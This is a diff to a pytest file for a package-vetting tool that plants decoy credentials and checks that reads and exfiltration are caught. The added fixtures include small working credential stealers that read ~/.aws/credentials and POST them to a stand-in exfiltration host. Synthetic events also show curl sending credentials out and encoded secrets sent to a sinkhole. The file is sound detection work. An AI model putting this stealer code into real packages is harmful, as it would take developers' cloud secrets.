@@ -9,13 +9,18 @@ package` exit 3 with the credential read at its setup.py line, and a real benign
 
 from __future__ import annotations
 
+import base64
+import io
 import json
+import tarfile
 import urllib.request
 from pathlib import Path
 
 import pytest
 
 from conftest import detain_cli, require
+from detain.package.decoys import HOME, plant
+from detain.package.phases import mark_decoy
 from detain.report.verdict import CLEAN, MALICIOUS, SUSPICIOUS, line, verdict
 from test_package import build_sdist
 
@@ -94,6 +99,35 @@ def test_run_summary_ends_with_the_verdict():
     last = done.stderr.decode().strip().splitlines()[-1]
     assert last.startswith("detain: verdict: malicious-looking — secret read: environment "
                            "variable NPM_TOKEN (<string>:2)"), last
+
+
+def test_decoys_are_realistic_marked_and_recognised_when_read_or_sent(tmp_path):
+    decoys = plant(tmp_path)
+    credentials = (decoys.home / ".aws/credentials").read_text()
+    assert credentials.startswith("[default]\naws_access_key_id = AKIA") and \
+        decoys.marker in credentials
+    for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".netrc", ".pypirc", ".git-credentials",
+                 ".docker/config.json", ".config/gcloud/application_default_credentials.json"):
+        assert decoys.marker in (decoys.home / name).read_text(), name
+    assert decoys.environment()["HOME"] == HOME and all(
+        decoys.marker in value for key, value in decoys.env.items() if "REGION" not in key)
+    read = kernel("kernel.openat", "file-read", target=f"{HOME}/.aws/credentials")
+    listed = hook("os.listdir", "fd", path=f"{HOME}/.ssh")
+    cache = hook("open", "file-write", path=f"{HOME}/.cache/pkg/x", mode="w")
+    secret = decoys.env["AWS_SECRET_ACCESS_KEY"].encode()
+    sent = [kernel("sinkhole.tcp", "network", host="c.invalid", first_bytes=text)
+            for text in (base64.b64encode(b"k=" + secret).decode(), secret.hex(),
+                         f"POST /?k={decoys.env['GITHUB_TOKEN']}")]
+    curl = kernel("kernel.execve", "process", target="/usr/bin/curl",
+                  argv=f"curl -d {credentials!r} x")
+    for event in (read, listed, cache, *sent, curl):
+        mark_decoy(event, decoys)
+    assert (read["decoy"], listed["decoy"], "decoy" in cache) == ("read", "read", False)
+    assert [e.get("decoy") for e in (*sent, curl)] == ["sent"] * 4
+    result = verdict([read])
+    assert result["level"] == MALICIOUS and result["reasons"] == [
+        f"decoy credentials read: {HOME}/.aws/credentials (kernel/runtime)"]
+    assert verdict(sent[:1])["signals"] == {"decoy credentials sent": 1}
 
 
 # --- detain package, for real -------------------------------------------------------------
@@ -209,7 +243,8 @@ def test_credential_thief_fails_the_gate_with_its_setup_py_line(tmp_path):
         ("setup.py", setup_line(AWS_THIEF, "open(path)"), "install")}, reads
     assert any(e["event"] == "subprocess.Popen" and "curl" in e["summary"] for e in events)
     assert any("collector.exfil.invalid" in str(e["detail"].get("url")) for e in events)
-    assert "credentials read: /scratch/.aws/credentials (setup.py:" in done.stderr.decode()
+    assert "decoy credentials read: /home/dev/.aws/credentials (setup.py:" in \
+        done.stderr.decode()
     # noise that was in every report: pip itself is not the package's
     assert not any("/scratch/venv/bin/python" in e["summary"] for e in events
                    if e["event"] == "subprocess.Popen")
@@ -249,3 +284,60 @@ def test_benign_sdist_is_clean(tmp_path):
     assert not [e for e in events if e["severity"] == "high"
                 and e["provenance"] == "in-process"], events
     assert done.stderr.decode().strip().splitlines()[-1] == "detain: verdict: clean"
+
+
+COND_SETUP = '''import os
+from setuptools import setup
+
+CREDENTIALS = os.path.expanduser("~/.aws/credentials")
+if os.path.exists(CREDENTIALS):
+    with open(CREDENTIALS) as handle:
+        STOLEN = handle.read()
+
+setup(name="condthief", version="1.0", py_modules=["condthief"])
+'''
+COND_MODULE = '''import os
+import urllib.request
+
+if os.path.exists(os.path.expanduser("~/.aws/credentials")):
+    with open(os.path.expanduser("~/.aws/credentials")) as handle:
+        STOLEN = handle.read()
+    try:
+        urllib.request.urlopen("http://collector.exfil.invalid/k", data=STOLEN.encode(),
+                               timeout=3)
+    except Exception:
+        pass
+'''
+
+
+def sdist(dest: Path, name: str, files: dict[str, str]) -> Path:
+    """name-1.0.tar.gz holding `files` and a PKG-INFO."""
+    path = dest / f"{name}-1.0.tar.gz"
+    files = {"PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n", **files}
+    with tarfile.open(path, "w:gz") as archive:
+        for member, text in files.items():
+            info = tarfile.TarInfo(f"{name}-1.0/{member}")
+            info.size = len(text.encode())
+            archive.addfile(info, io.BytesIO(text.encode()))
+    return path
+
+
+@pytest.mark.slow
+def test_stealer_that_checks_first_finds_the_decoys(tmp_path):
+    """`if os.path.exists(~/.aws/credentials)` at setup.py level and at import: the decoy
+    HOME makes both read it, each shown at its own line."""
+    needs_index()
+    done, report, events = vet(sdist(tmp_path, "condthief", {
+        "setup.py": COND_SETUP, "condthief.py": COND_MODULE}), tmp_path)
+    assert done.returncode == 3, done.stderr.decode()[-3000:]
+    assert report["decoys"]["home"] == HOME and "~/.aws/credentials" in \
+        report["decoys"]["files"]
+    reads = {(e["file"], e["line"], e["phase"]) for e in events
+             if e.get("decoy") == "read" and e["provenance"] == "in-process"}
+    assert reads == {("setup.py", setup_line(COND_SETUP, "open(CREDENTIALS)"), "install"),
+                     ("condthief.py", setup_line(COND_MODULE, "open(os.path"), "import")}, reads
+    assert f"decoy credentials read: {HOME}/.aws/credentials (setup.py:" \
+        f"{setup_line(COND_SETUP, 'open(CREDENTIALS)')}, install)" in done.stderr.decode()
+    if report["phases"][1]["sinkhole"]:  # the POSTed body carries the decoys' marker
+        assert any(e.get("decoy") == "sent" and e["phase"] == "import" for e in events), \
+            [e["summary"] for e in events if e["phase"] == "import"]
